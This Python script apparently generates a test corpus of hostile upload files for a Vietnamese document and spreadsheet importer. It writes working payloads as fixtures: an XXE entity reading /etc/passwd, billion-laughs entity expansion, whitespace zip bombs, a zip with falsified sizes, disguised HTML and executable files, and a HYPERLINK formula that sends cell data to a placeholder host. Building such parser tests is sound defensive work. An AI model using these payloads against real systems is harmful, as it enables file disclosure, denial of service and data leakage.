"""Build the hostile upload corpus.

    uv run python tests/hostile/make_corpus.py          # (re)write the small files under tests/hostile/corpus/

The small files are committed (they are the corpus); the large ones (100,000 rows, oversize) are built by the
same functions at test time into a temporary folder, so the repository stays small. Output is deterministic:
every zip member carries the same fixed timestamp, so re-running the script changes no committed byte.
"""

import io
import sys
import zipfile
from pathlib import Path

CORPUS = Path(__file__).resolve().parent / "corpus"
FIXED_TIME = (2021, 11, 11, 0, 0, 0)

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

CONTENT_TYPES_XLSX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
RELS_XLSX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_OPEN = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def zip_of(members: list[tuple[str, bytes | str]], level: int = 9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data.encode() if isinstance(data, str) else data, compresslevel=level)
    return buffer.getvalue()


def docx_of(document_xml: bytes | str) -> bytes:
    return zip_of(
        [("[Content_Types].xml", CONTENT_TYPES_DOCX), ("_rels/.rels", RELS_DOCX), ("word/document.xml", document_xml)]
    )


def _column(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _cell(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, str) and value.startswith("="):
        return f'<c r="{ref}"><f>{_escape(value[1:])}</f></c>'  # a live formula, no cached value (as openpyxl saves)
    return f'<c r="{ref}" t="inlineStr"><is><t>{_escape(str(value))}</t></is></c>'


def sheet_xml(rows, merged: list[str] = (), doctype: str = "") -> str:
    """A worksheet of the given rows (values: str, number, None; '=...' is a formula) as XML text."""
    parts = [SHEET_OPEN, doctype, f"<worksheet {SHEET_NS}><sheetData>"]
    for r, values in enumerate(rows, start=1):
        cells = "".join(_cell(f"{_column(c)}{r}", v) for c, v in enumerate(values))
        parts.append(f'<row r="{r}">{cells}</row>')
    parts.append("</sheetData>")
    if merged:
        parts.append(f'<mergeCells count="{len(merged)}">')
        parts.extend(f'<mergeCell ref="{ref}"/>' for ref in merged)
        parts.append("</mergeCells>")
    parts.append("</worksheet>")
    return "".join(parts)


def xlsx_of(sheet: str | bytes, level: int = 9) -> bytes:
    return zip_of(
        [
            ("[Content_Types].xml", CONTENT_TYPES_XLSX),
            ("_rels/.rels", RELS_XLSX),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/worksheets/sheet1.xml", sheet),
        ],
        level,
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document_xml(body: str, doctype: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'{doctype}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    )


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lolololololololololololololololololololololololololololol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    + "]>"
)
XXE = '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def lying_sizes(data: bytes, member: str) -> bytes:
    """Rewrite a zip so its directory claims `member` unpacks to 1,000 bytes (the real size is far more): a
    size check that trusts the directory is fooled; the CRC of what is really there is not."""
    buffer = bytearray(data)
    name = member.encode()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    small = (1000).to_bytes(4, "little")
    local = info.header_offset
    assert buffer[local + 30 : local + 30 + len(name)] == name
    buffer[local + 22 : local + 26] = small
    start = 0
    while True:
        central = buffer.find(b"PK\x01\x02", start)
        if central < 0:
            break
        if buffer[central + 46 : central + 46 + len(name)] == name:
            buffer[central + 24 : central + 28] = small
        start = central + 4
    return bytes(buffer)


EXPERT_HEADER = ["Mã chuyên gia", "Họ và tên", "Năm sinh", "Lĩnh vực"]
PLACES_HEADER = ["Mã", "Tên", "Tên ngắn", "Loại", "Cấp", "Mã đơn vị cấp trên", "Hiệu lực từ", "Hiệu lực đến"]


MANY_ROWS_HEADER = [
    "Họ và tên",
    "Năm sinh",
    "Lĩnh vực",
    "Mã",
    "Tên",
    "Cấp",
    "Số đăng ký",
    "Mã giám khảo",
    "TM",
    "UD",
    "HQ",
]


def many_rows_xlsx(count: int = 100_000) -> bytes:
    """`count` distinct data rows under a header every importer reads (deterministic; written as XML directly,
    since building 1.1 million cells one by one is slow)."""
    head = sheet_xml([MANY_ROWS_HEADER]).split("</sheetData>")[0]

    def text(ref: str, value: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'

    body = [
        f'<row r="{r}">{text(f"A{r}", f"Nguyễn Văn {r}")}<c r="B{r}"><v>{1950 + r % 50}</v></c>{text(f"C{r}", "NN")}'
        f"{text(f'D{r}', f'9{r:06d}')}{text(f'E{r}', f'Xã {r}')}{text(f'F{r}', 'xã')}{text(f'G{r}', f'ST9-{r:05d}')}"
        f'{text(f"H{r}", "CG-0001")}<c r="I{r}"><v>{r % 30}</v></c><c r="J{r}"><v>{r % 35}</v></c>'
        f'<c r="K{r}"><v>{r % 35}</v></c></row>'
        for r in range(2, count + 2)
    ]
    return xlsx_of(head + "".join(body) + "</sheetData></worksheet>", level=1)


def oversize_pdf(size: int) -> bytes:
    """A PDF-looking file of exactly `size` bytes (random-looking so it does not compress)."""
    import hashlib

    block, counter, parts, length = b"", 0, [PDF], len(PDF)
    while length < size:
        block = hashlib.sha256(counter.to_bytes(8, "little")).digest() * 64
        parts.append(block)
        length += len(block)
        counter += 1
    return b"".join(parts)[:size]


def small_files() -> dict[str, bytes]:
    """name → content of every committed corpus file."""
    filler = b" " * (30 * 1024 * 1024)
    bomb_doc = document_xml(paragraph("Dự thảo") + filler.decode())
    good_doc = docx_of(document_xml(paragraph("Điều 1. Phạm vi điều chỉnh") + paragraph("Nội dung " * 2000)))
    files = {
        "html-named-pdf.pdf": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n",
        "exe-named-docx.docx": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 240,
        "plain-zip-named-xlsx.xlsx": zip_of([("readme.txt", "không phải bảng tính")]),
        "empty.pdf": b"",
        "bomb.docx": docx_of(bomb_doc),
        "bomb.xlsx": xlsx_of(
            sheet_xml([EXPERT_HEADER]).replace("</worksheet>", " " * (30 * 1024 * 1024) + "</worksheet>")
        ),
        "lying-sizes.docx": lying_sizes(good_doc, "word/document.xml"),
        "broken-xml.docx": docx_of("<w:document><w:body><w:p>không đóng thẻ"),
        "no-text.docx": docx_of(document_xml("")),
        "billion-laughs.docx": docx_of(document_xml(paragraph("&lol9;"), LAUGHS)),
        "xxe.docx": docx_of(document_xml(paragraph("&xxe;"), XXE)),
        "billion-laughs.xlsx": xlsx_of(
            sheet_xml([EXPERT_HEADER, ["", "&lol9;", 1970, "NN"]], doctype=LAUGHS).replace("&amp;lol9;", "&lol9;")
        ),
        "formula.xlsx": xlsx_of(
            sheet_xml(
                [
                    EXPERT_HEADER + PLACES_HEADER[:2] + ["Cấp", "Số đăng ký", "Mã giám khảo", "TM", "UD", "HQ"],
                    [
                        "",
                        '=HYPERLINK("http://example.invalid/?"&A1,"Nguyễn Văn An")',
                        1970,
                        "NN",
                        "90001",
                        '=CONCATENATE("Xã ","An")',
                        "xã",
                        "=A1",
                        "CG-0001",
                        "=10+10",
                        20,
                        20,
                    ],
                ]
            )
        ),
        "merged-header.xlsx": xlsx_of(
            sheet_xml(
                [
                    ["Danh sách chuyên gia", None, None, None],
                    ["Thông tin", None, "Chuyên môn", None],
                    ["Nguyễn Văn An", 1970, "NN", ""],
                ],
                merged=["A1:D1", "A2:B2", "C2:D2"],
            )
        ),
        "wrong-columns.xlsx": xlsx_of(sheet_xml([["Tên đầy đủ", "Tuổi", "Ghi chú"], ["Nguyễn Văn An", 51, ""]])),
        "windows-1252.csv": "Mã,Tên,Cấp\n90001,Xã Đăk Tô,xã\n".encode("cp1252", errors="replace"),
        "nul-bytes.csv": b"M\x00a\x00,\x00T\x00e\x00n\x00\n\x009\x000\x00",
    }
    return files


def write() -> None:
    CORPUS.mkdir(exist_ok=True)
    for name, data in small_files().items():
        (CORPUS / name).write_bytes(data)
    total = sum(p.stat().st_size for p in CORPUS.iterdir())
    print(f"{len(list(CORPUS.iterdir()))} files, {total:,} bytes in {CORPUS}")


if __name__ == "__main__":
    sys.exit(write())
